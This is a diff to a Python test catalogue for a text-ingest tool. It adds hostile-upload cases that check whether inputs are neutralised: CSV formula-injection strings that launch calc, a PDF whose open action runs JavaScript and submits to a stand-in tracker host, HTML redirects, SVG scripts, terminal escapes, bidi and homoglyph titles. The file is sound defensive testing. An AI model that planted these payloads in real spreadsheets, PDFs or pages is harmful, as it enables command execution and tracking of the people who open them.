@@ -1,8 +1,10 @@
-"""The catalogue of odd and hostile inputs: each is generated here, ingested into a fresh
-workspace, and its outcome asserted (status, the reason's key words, what was read).
+"""The catalogue of odd and hostile inputs, each generated here with the outcome it must get.
 
-One bad file never stops the others: every case is ingested together with a good article,
-which must load every time.
+Every case runs three ways (each with a good article beside it, which must load every time):
+through the engine's ingest (``test_engine.py``), through the command line's ``ingest`` and
+``analyse`` (``test_cli.py``), and through the app's upload box and every page
+(``test_app_catalogue.py``). A new kind of bad input is added here once and is checked all
+three ways.
 """
 
 from __future__ import annotations
@@ -15,8 +17,6 @@ from dataclasses import dataclass, field
 from datetime import date
 from pathlib import Path
 from typing import Callable
-
-import pytest
 
 from tonlage.export import neutralise_formulas
 from tonlage.ingest import Limits
@@ -247,56 +247,111 @@ CASES = [
 ]
 
 
-@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
-def test_hostile_input(case: Case, tmp_path):
-    cwd_before = sorted(os.listdir(tmp_path))
-    ws = Workspace("hostile", root=tmp_path / "data")
-    limits = Limits(**case.limits)
-    files = [("gut.txt", GOOD.encode()), *case.files]
-    report = ingest(ws, documents_from_uploads(files, limits), limits=limits, today=TODAY)
-    rows = {r.file: r for r in report.rows}
-    assert rows["gut.txt"].status == LOADED, "one bad file must never stop the others"
-    for file, (status, word) in case.expect.items():
-        assert file in rows, f"{file} missing from the report: {list(rows)}"
-        assert rows[file].status == status, (file, rows[file])
-        assert word.lower() in rows[file].reason.lower(), (file, rows[file].reason)
-        assert rows[file].reason.strip(), "every line says why"
-    for r in report.rows:  # every line is one readable sentence or two, never a traceback
-        assert "Traceback" not in r.reason and len(r.reason) < 600
-    if case.check:
-        assert case.check(ws, report)
-    assert sorted(os.listdir(tmp_path)) == sorted(set(cwd_before) | {"data"}), "nothing written outside the workspace"
-    assert not list(Path(tmp_path).rglob("evil.txt"))
 
 
-def test_the_catalogue_is_big_enough():
-    assert len(CASES) >= 30
+# --- added with the hardening of untrusted text (each class the earlier probe did not try) ----------
+def _csv_rows(rows: list[list[str]]) -> bytes:
+    import csv
+
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\n").writerows(rows)
+    return buf.getvalue().encode()
 
 
-SUFFIXES = (".txt", ".md", ".html", ".csv", ".tsv", ".xlsx", ".json", ".jsonl", ".docx", ".pdf", ".zip", ".bin", "")
+def _pdf_with_javascript(text: str) -> bytes:
+    """A PDF whose opening runs JavaScript in a viewer that allows it (we only read its text)."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.actions import JavaScript
+
+    w = PdfWriter()
+    w.append(PdfReader(io.BytesIO(_pdf(text))))
+    w.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('http://tracker.example/');"))
+    buf = io.BytesIO()
+    w.write(buf)
+    return buf.getvalue()
 
 
-def test_any_upload_gets_a_report_line_and_never_an_exception():
-    """Property: whatever bytes arrive under whatever name, ingest returns one report line per
-    upload (plus archive members) with a known status, and never raises."""
-    import tempfile
+FORMULAS = ('=HYPERLINK("http://tracker.example","klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0")
+ESC = "\x1b[2J\x1b]0;pwned\x07"
+BIDI_TITLE = "Gipfel \u202etxt.exe\u202c"
+HOMOGLYPH = "Р\u0443tin trifft Trump"  # Cyrillic Р and у inside a Latin word
 
-    from hypothesis import HealthCheck, given, settings
-    from hypothesis import strategies as st
 
-    upload = st.tuples(st.sampled_from(SUFFIXES),
-                       st.one_of(st.binary(max_size=600), st.text(max_size=400).map(str.encode)))
+def _no_control(ws) -> bool:
+    import re
 
-    @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-    @given(st.lists(upload, min_size=1, max_size=4))
-    def check(files):
-        with tempfile.TemporaryDirectory() as tmp:
-            ws = Workspace("prop", root=Path(tmp))
-            named = [(f"f{i}{suffix}", data) for i, (suffix, data) in enumerate(files)]
-            report = ingest(ws, documents_from_uploads(named), today=TODAY)
-            listed = {r.file for r in report.rows}
-            assert all(name in listed for name, _ in named)
-            assert all(r.status in (LOADED, WARNINGS, SKIPPED) and r.reason for r in report.rows)
-            assert ws.article_count() == report.n_articles
+    return all(not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", a.title + a.author + a.source)
+               for a in ws.raw_articles())
 
-    check()
+
+def _event_labels(ws) -> list[str]:
+    from tonlage.events import EventBook
+
+    return EventBook.for_workspace(ws).table()["label"].tolist()
+
+
+NEW_CASES = [
+    Case("homoglyph title", [("homoglyph.txt", (f"{HOMOGLYPH} | Eva Muster. 15.08.2025.\n\n" + BODY).encode())],
+         {"homoglyph.txt": (WARNINGS, "cyrillic")}, check=lambda ws, r: HOMOGLYPH in _titles(ws)),
+    Case("bidi override in a title", [("bidi.txt", (f"{BIDI_TITLE} | Eva Muster. 15.08.2025.\n\n" + BODY).encode())],
+         {"bidi.txt": (WARNINGS, "direction")}, check=lambda ws, r: "Gipfel txt.exe" in _titles(ws) and _no_control(ws)),
+    Case("terminal escapes in a title and a file name",
+         [(f"flucht{ESC}.txt", (f"Titel {ESC} | Eva {ESC}. 15.08.2025.\n\n" + BODY).encode())],
+         {"flucht[2J]0;pwned.txt": (WARNINGS, "control characters")}, check=lambda ws, r: _no_control(ws)),
+    Case("spreadsheet formulas in every column of a CSV",
+         [("formeln.csv", _csv_rows([["title", "author", "source", "text"]]
+                                    + [[f, f, f, f"{BODY} Formel {i}."] for i, f in enumerate(FORMULAS)]))],
+         {"formeln.csv": (WARNINGS, "4 articles")}, check=lambda ws, r: set(FORMULAS) <= set(_titles(ws))),
+    Case("a very wide table (3,000 columns)",
+         [("breit.csv", _csv_rows([["title", "text"] + [f"spalte{i}" for i in range(3000)],
+                                   ["Breit", BODY] + ["x"] * 3000]))],
+         {"breit.csv": (WARNINGS, "1 article")}, check=lambda ws, r: "Breit" in _titles(ws)),
+    Case("a PDF with JavaScript actions",
+         [("skript.pdf", _pdf_with_javascript("Am 24. September 2025 sprachen die Minister lange.\n"
+                                              "Eine Einigung gab es nicht, die Lage bleibt offen."))],
+         {"skript.pdf": (LOADED, "")},
+         check=lambda ws, r: any("Einigung gab es nicht" in t for t in _texts(ws))
+         and all("pwned" not in t for t in _texts(ws))),
+    Case("HTML with <base> and <meta refresh>",
+         [("umleitung.html", ("<html><head><base href='http://tracker.example/'>"
+                              "<meta http-equiv='refresh' content='0;url=http://tracker.example/go'>"
+                              "<title>Umleitung</title></head><body><article><h1>Seite mit Umleitung</h1>"
+                              + "".join(f"<p>{BODY} Absatz {i}. <a href='rel{i}'>mehr</a></p>" for i in range(3))
+                              + "</article></body></html>").encode())],
+         {"umleitung.html": (WARNINGS, "no date")},
+         check=lambda ws, r: "Seite mit Umleitung" in _titles(ws) and all("refresh" not in t for t in _texts(ws))),
+    Case("SVG with a script inside HTML",
+         [("grafik.html", ("<html><body><article><h1>Mit Grafik</h1>" + f"<p>{BODY}</p>"
+                           "<svg><script>alert('svg')</script><text>SVGGEHEIM</text>"
+                           "<foreignObject><p>FREMDOBJEKT</p></foreignObject></svg></article></body></html>").encode())],
+         {"grafik.html": (WARNINGS, "")},
+         check=lambda ws, r: all("alert" not in t and "SVGGEHEIM" not in t for t in _texts(ws))),
+    Case("data: URIs in HTML",
+         [("daten.html", ("<html><body><article><h1>Mit Daten</h1>" + f"<p>{BODY}</p>"
+                          "<img src='data:image/png;base64," + "iVBORw0KGgo" * 300 + "'>"
+                          "<a href='data:text/html,<script>alert(1)</script>'>Quelle</a></article></body></html>")
+                         .encode())],
+         {"daten.html": (WARNINGS, "")},
+         check=lambda ws, r: all("base64" not in t and "<script" not in t for t in _texts(ws))),
+    Case("a 300,000-letter word", [("wort.txt", (BODY + " " + "Donaudampfschiff" * 20_000 + " " + BODY).encode())],
+         {"wort.txt": (WARNINGS, "no date")}, check=lambda ws, r: any(len(t) > 300_000 for t in _texts(ws))),
+    Case("10,000 sentences in one line",
+         [("zeile.txt", " ".join(f"Das ist Satz Nummer {i} über die Lage." for i in range(10_000)).encode())],
+         {"zeile.txt": (WARNINGS, "no date")}, check=lambda ws, r: any(t.count(".") >= 10_000 for t in _texts(ws))),
+    Case("a Markdown image and link in the file name",
+         [("![pixel](http:tracker.example).txt", (BODY + " Name mit Bild.").encode())],
+         {"![pixel](http:tracker.example).txt": (WARNINGS, "no date")}),
+    Case("a note with a remote image in metadata.csv",
+         [("notiz.txt", (BODY + " Mit Notiz.").encode()),
+          ("metadata.csv", _csv_rows([["file", "title", "author", "date", "genre", "note"],
+                                      ["notiz.txt", "Notiz", "", "", "", "![n](http://tracker.example/n.png)"]]))],
+         {"notiz.txt": (WARNINGS, ""), "metadata.csv": (LOADED, "applied")},
+         check=lambda ws, r: [a.notes for a in ws.raw_articles() if a.title == "Notiz"]
+         == [["![n](http://tracker.example/n.png)"]]),
+    Case("events with formulas (events.csv in an upload)",
+         [("events.csv", _csv_rows([["date", "label", "description"], ["2025-08-15", FORMULAS[0], FORMULAS[1]]]))],
+         {"events.csv": (LOADED, "event markers")},
+         check=lambda ws, r: _event_labels(ws) == [FORMULAS[0]]),
+]
+CASES = CASES + NEW_CASES
